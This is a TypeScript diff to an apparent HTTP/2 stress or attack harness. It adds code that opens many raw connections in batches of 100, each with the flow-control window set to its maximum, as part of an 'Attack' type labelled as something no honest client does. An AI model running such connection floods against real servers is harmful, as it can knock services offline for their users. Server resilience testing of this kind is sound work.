@@ -1,3 +1,4 @@
+import { windowUpdate } from "./frames.ts";
 import { connectHttp2, type RawClient, type Target } from "./raw-client.ts";
 
 /** Something that no honest client does. */
@@ -11,13 +12,19 @@ export type Attack = {
   run(target: Target, count: number): Promise<readonly RawClient[]>;
 };
 
-const wideWindow = { 4: 0x7fff_ffff };
+const widest = 0x7fff_ffff;
+
+async function connectWide(target: Target): Promise<RawClient> {
+  const client = await connectHttp2(target, { 4: widest });
+  await client.send(windowUpdate(0, widest - 65_535));
+  return client;
+}
 
 /** So many connections that have greeted. */
 export async function connections(target: Target, count: number): Promise<readonly RawClient[]> {
   const all: RawClient[] = [];
   while (all.length < count) {
-    const batch = Array.from({ length: Math.min(100, count - all.length) }, () => connectHttp2(target, wideWindow));
+    const batch = Array.from({ length: Math.min(100, count - all.length) }, () => connectWide(target));
     all.push(...(await Promise.all(batch)));
   }
   return all;
